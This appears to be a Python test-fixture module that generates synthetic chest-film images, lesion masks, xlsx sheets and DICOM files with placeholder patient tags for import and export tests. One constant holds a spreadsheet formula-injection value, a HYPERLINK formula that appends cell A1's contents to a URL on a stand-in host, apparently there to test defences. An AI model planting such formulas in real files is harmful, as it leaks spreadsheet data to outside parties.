"""Made-up sources for the import and export tests: a film with a lesion low on the picture's left, in many formats."""

from __future__ import annotations

import io
from pathlib import Path

import numpy as np
import pydicom
from openpyxl import Workbook
from PIL import Image
from pydicom.dataset import Dataset, FileMetaDataset
from pydicom.uid import (
    CTImageStorage,
    DigitalXRayImageStorageForPresentation,
    ExplicitVRLittleEndian,
)

WORDS = "Unilateral pulmonary infection, one infected area, lower left lung."
FORMULA = '=HYPERLINK("http://x.example/?"&A1,"left lung")'
HEIGHT, WIDTH = 40, 56


def left_film(height: int = HEIGHT, width: int = WIDTH) -> np.ndarray:
    """A gray ramp, brighter to the right and down, with a bright spot low on the left: ``(H, W) uint8``."""
    rows, columns = np.mgrid[:height, :width]
    film = (40 + 60 * columns / width + 40 * rows / height).astype(np.uint8)
    film[left_mask(height, width) > 0] = 220
    return film


def left_mask(height: int = HEIGHT, width: int = WIDTH) -> np.ndarray:
    """The spot of `left_film`, ``(H, W) uint8, 0 or 1``; like no turned or mirrored copy of itself."""
    mask = np.zeros((height, width), np.uint8)
    mask[-14:-4, 5:12] = 1
    mask[-14:-11, 12:18] = 1
    return mask


def save_pairs(
    folder: Path, names: list[str], images: str = "images", masks: str = "masks", before: str = ""
) -> None:
    """Write the film and its mask under each name; the mask's name may begin with ``before``."""
    for place in (images, masks):
        (folder / place).mkdir(parents=True, exist_ok=True)
    for number, name in enumerate(names):
        film = left_film()
        film[0, 0] = number
        Image.fromarray(film).save(folder / images / name)
        Image.fromarray(left_mask() * 255).save(folder / masks / f"{before}{name}")


def save_sheet(path: Path, rows: list[tuple]) -> Path:
    """Write rows as an xlsx file."""
    book = Workbook()
    for row in rows:
        book.active.append(row)
    book.save(path)
    return path


def dicom(pixels: np.ndarray, kind: str = "film", **tags: object) -> Dataset:
    """A DICOM file of ``pixels``: a "film" for presentation or a "ct" slice; tags replace the usual ones."""
    meta = FileMetaDataset()
    meta.TransferSyntaxUID = ExplicitVRLittleEndian
    file = Dataset()
    file.file_meta = meta
    file.SOPClassUID = CTImageStorage if kind == "ct" else DigitalXRayImageStorageForPresentation
    file.Modality = "CT" if kind == "ct" else "DX"
    for number, name in enumerate(("SOPInstanceUID", "StudyInstanceUID", "SeriesInstanceUID")):
        setattr(file, name, f"1.2.826.0.1.3680043.99.{number}")
    file.PatientID, file.PatientName, file.StudyDate = "12345", "Doe^Jane", "20200315"
    file.PhotometricInterpretation, file.SamplesPerPixel = "MONOCHROME2", 1
    file.Rows, file.Columns = pixels.shape[:2]
    file.BitsAllocated = file.BitsStored = pixels.dtype.itemsize * 8
    file.HighBit = file.BitsStored - 1
    file.PixelRepresentation = int(pixels.dtype.kind == "i")
    if kind == "ct":
        file.ImageOrientationPatient = [1, 0, 0, 0, 1, 0]
        file.ImagePositionPatient, file.PixelSpacing = [-100, -80, 30], [2.0, 0.5]
        file.SliceThickness, file.FrameOfReferenceUID = 1, "1.2.826.0.1.3680043.99.9"
    else:
        file.PatientOrientation, file.BurnedInAnnotation = ["L", "F"], "NO"
    for name, value in tags.items():
        setattr(file, name, value)
    file.PixelData = pixels.tobytes() + b"\0" * (pixels.nbytes % 2)
    meta.MediaStorageSOPClassUID = file.SOPClassUID
    meta.MediaStorageSOPInstanceUID = file.SOPInstanceUID
    return file


def dicom_bytes(file: Dataset) -> bytes:
    """The file as it lies on disk."""
    stream = io.BytesIO()
    pydicom.dcmwrite(stream, file, enforce_file_format=True)
    return stream.getvalue()


def save_dicom(path: Path, pixels: np.ndarray, kind: str = "film", **tags: object) -> Path:
    """Write `dicom` to a file."""
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(dicom_bytes(dicom(pixels, kind, **tags)))
    return path
